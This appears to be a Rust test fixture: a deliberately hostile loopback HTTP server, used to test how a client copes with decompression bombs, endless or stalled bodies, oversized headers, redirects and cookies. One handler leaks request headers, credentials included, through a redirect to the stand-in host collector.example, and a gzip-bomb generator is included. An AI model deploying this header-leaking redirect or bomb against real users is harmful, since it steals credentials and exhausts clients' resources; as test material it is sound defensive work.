//! The other end of a guest's requests: a server on loopback that remembers who asked it for what,
//! and is as hostile as a counterpart can be.
//!
//! It has a thread of its own, so that it answers also while a guest keeps the host's busy.

use std::collections::HashMap;
use std::convert::Infallible;
use std::fmt::Write as _;
use std::io::Write as _;
use std::net::{SocketAddr, TcpListener};
use std::sync::{Arc, Mutex, PoisonError};
use std::thread::JoinHandle;
use std::time::Duration;

use axum::Router;
use axum::body::Body;
use axum::extract::{ConnectInfo, Query, Request, State};
use axum::http::{HeaderMap, StatusCode, header};
use axum::middleware::{Next, from_fn_with_state};
use axum::response::{IntoResponse as _, Response};
use axum::routing::{any, get};
use bytes::Bytes;
use flate2::{Compress, Compression, FlushCompress};
use futures_util::stream;
use tokio::sync::oneshot;

/// What a counterpart gives for a login.
pub const TOKEN: &str = "conformance-t0ken-4e5f6a7b";

/// A request as it arrived.
#[derive(Clone, Debug)]
pub struct Seen {
    /// The socket that it came over.
    pub peer: SocketAddr,
    /// Path and query.
    pub path: String,
    /// Its headers.
    pub headers: HeaderMap,
}

impl Seen {
    /// A header as text; empty when there is none.
    pub fn header(&self, name: &str) -> &str {
        let value = self.headers.get(name);
        value.map_or("", |value| value.to_str().unwrap_or("no text"))
    }
}

type Log = Arc<Mutex<Vec<Seen>>>;

/// A server that runs until it is dropped. What it does depends on the path:
///
/// | path | answer |
/// |---|---|
/// | `/` | `hello`, after the body of the request was read to its end |
/// | `/mebibyte` | a body of that size |
/// | `/endless` | a body that never ends |
/// | `/bomb` | ten gibibytes of zeros in ten mebibytes of gzip |
/// | `/drip` | a body that never ends, a byte at a time |
/// | `/silent` | nothing, for ever |
/// | `/busy` | that it had too many requests, and that the next one may come in a minute |
/// | `/down` | that it is down, and will be up in a minute |
/// | `/headers` | more headers than an answer needs |
/// | `/redirect?to=URL` | a redirect |
/// | `/cookie` | a cookie |
/// | `/token` | JSON with the [`TOKEN`] |
/// | `/echo/WHERE` | the headers of the request: in the `body`, compressed as `gzip`, in a `header`, in the place of a `redirect`, in the body of a `refusal` |
pub struct Counterpart {
    address: SocketAddr,
    seen: Log,
    stop: Option<oneshot::Sender<()>>,
    thread: Option<JoinHandle<()>>,
}

impl Counterpart {
    /// Starts one on a free port of loopback.
    ///
    /// # Panics
    /// When there is no port or no thread.
    pub fn start() -> Counterpart {
        let listener = TcpListener::bind("127.0.0.1:0").expect("a port");
        listener.set_nonblocking(true).expect("a socket");
        let address = listener.local_addr().expect("an address");
        let seen = Log::default();
        let routes = routes(Arc::clone(&seen));
        let (stop, stopped) = oneshot::channel::<()>();
        let serve = async move {
            let listener = tokio::net::TcpListener::from_std(listener).expect("a socket");
            let service = routes.into_make_service_with_connect_info::<SocketAddr>();
            tokio::select! {
                _ = axum::serve(listener, service) => {}
                _ = stopped => {}
            }
        };
        let runtime = tokio::runtime::Builder::new_current_thread()
            .enable_all()
            .build()
            .expect("a runtime");
        let thread = std::thread::Builder::new()
            .name("counterpart".to_owned())
            .spawn(move || runtime.block_on(serve))
            .expect("a thread");
        Counterpart {
            address,
            seen,
            stop: Some(stop),
            thread: Some(thread),
        }
    }

    /// Where it listens.
    pub fn address(&self) -> SocketAddr {
        self.address
    }

    /// Its URL with this path.
    pub fn url(&self, path: &str) -> String {
        format!("http://{}{path}", self.address)
    }

    /// The requests so far.
    pub fn seen(&self) -> Vec<Seen> {
        let seen = self.seen.lock();
        seen.unwrap_or_else(PoisonError::into_inner).clone()
    }

    /// How many requests there were so far.
    pub fn hits(&self) -> usize {
        self.seen().len()
    }

    /// The same, for who cannot hold the counterpart.
    pub fn counter(&self) -> impl Fn() -> usize + Send + Sync + 'static {
        let seen = Arc::clone(&self.seen);
        move || seen.lock().unwrap_or_else(PoisonError::into_inner).len()
    }
}

impl Drop for Counterpart {
    fn drop(&mut self) {
        drop(self.stop.take());
        if let Some(thread) = self.thread.take() {
            // The thread has nothing to report: a panic in it has been printed already.
            let _ = thread.join();
        }
    }
}

fn routes(log: Log) -> Router {
    Router::new()
        .route("/", any(hello))
        .route("/mebibyte", get(|| async { vec![b'x'; 1 << 20] }))
        .route("/endless", get(|| async { endless(64 << 10, None) }))
        .route("/bomb", get(|| async { bomb() }))
        .route(
            "/drip",
            get(|| async { endless(1, Some(Duration::from_millis(20))) }),
        )
        .route("/silent", get(std::future::pending::<StatusCode>))
        .route(
            "/busy",
            any(|| async { later(StatusCode::TOO_MANY_REQUESTS) }),
        )
        .route(
            "/down",
            any(|| async { later(StatusCode::SERVICE_UNAVAILABLE) }),
        )
        .route(
            "/headers",
            get(|| async { [("large", "x".repeat(20 << 10))] }),
        )
        .route("/redirect", get(redirect))
        .route(
            "/cookie",
            get(|| async { ([(header::SET_COOKIE, "visitor=tracked; Path=/")], "hello") }),
        )
        .route("/token", any(token))
        .route("/echo/body", any(echo_in_body))
        .route("/echo/gzip", get(echo_in_gzip))
        .route("/echo/header", get(echo_in_header))
        .route("/echo/redirect", get(echo_in_redirect))
        .route("/echo/refusal", get(echo_in_refusal))
        .layer(from_fn_with_state(log, remember))
}

async fn remember(
    State(log): State<Log>,
    ConnectInfo(peer): ConnectInfo<SocketAddr>,
    request: Request,
    next: Next,
) -> Response {
    let seen = Seen {
        peer,
        path: request.uri().to_string(),
        headers: request.headers().clone(),
    };
    log.lock()
        .unwrap_or_else(PoisonError::into_inner)
        .push(seen);
    next.run(request).await
}

async fn hello(request: Request) -> &'static str {
    // An endless body is read as long as it comes, and never kept.
    let mut body = request.into_body().into_data_stream();
    while let Some(Ok(_)) = futures_util::StreamExt::next(&mut body).await {}
    "hello"
}

fn endless(piece: usize, pause: Option<Duration>) -> Body {
    let piece = Bytes::from(vec![b'x'; piece]);
    Body::from_stream(stream::unfold((), move |()| {
        let piece = piece.clone();
        async move {
            if let Some(pause) = pause {
                tokio::time::sleep(pause).await;
            }
            Some((Ok::<_, Infallible>(piece), ()))
        }
    }))
}

/// A gzip whose one block of zeros is repeated: cheap to make, dear to unpack.
fn bomb() -> Response {
    const BLOCK: usize = 1 << 20;
    const BLOCKS: usize = 10 << 10;
    let mut block = Vec::with_capacity(BLOCK);
    Compress::new(Compression::best(), false)
        .compress_vec(&vec![0; BLOCK], &mut block, FlushCompress::Full)
        .expect("a compressed block");
    // RFC 1952: magic, deflate, no flags, no time, no hints, some system.
    let head = Bytes::from_static(&[0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255]);
    let blocks = std::iter::repeat_n(Bytes::from(block), BLOCKS);
    let pieces = std::iter::once(head).chain(blocks);
    let body = Body::from_stream(stream::iter(pieces.map(Ok::<_, Infallible>)));
    ([(header::CONTENT_ENCODING, "gzip")], body).into_response()
}

fn later(status: StatusCode) -> Response {
    (status, [(header::RETRY_AFTER, "60")]).into_response()
}

async fn token() -> String {
    format!(r#"{{"access_token":"{TOKEN}"}}"#)
}

async fn redirect(Query(mut query): Query<HashMap<String, String>>) -> Response {
    let place = query.remove("to").unwrap_or_default();
    (StatusCode::FOUND, [(header::LOCATION, place)]).into_response()
}

fn told(headers: &HeaderMap) -> String {
    headers
        .iter()
        .fold(String::new(), |mut text, (name, value)| {
            let _ = write!(text, "{name}: {} ", value.to_str().unwrap_or_default());
            text
        })
}

async fn echo_in_body(headers: HeaderMap) -> String {
    told(&headers)
}

async fn echo_in_gzip(headers: HeaderMap) -> Response {
    let mut packed = flate2::write::GzEncoder::new(Vec::new(), Compression::best());
    packed.write_all(told(&headers).as_bytes()).expect("memory");
    let packed = packed.finish().expect("memory");
    ([(header::CONTENT_ENCODING, "gzip")], packed).into_response()
}

async fn echo_in_header(headers: HeaderMap) -> Response {
    ([("x-told", told(&headers))], "hello").into_response()
}

async fn echo_in_redirect(headers: HeaderMap) -> Response {
    let credential = told(&headers).replace(' ', "%20");
    let place = format!("https://collector.example/?{credential}");
    (StatusCode::FOUND, [(header::LOCATION, place)]).into_response()
}

async fn echo_in_refusal(headers: HeaderMap) -> Response {
    (StatusCode::UNAUTHORIZED, told(&headers)).into_response()
}
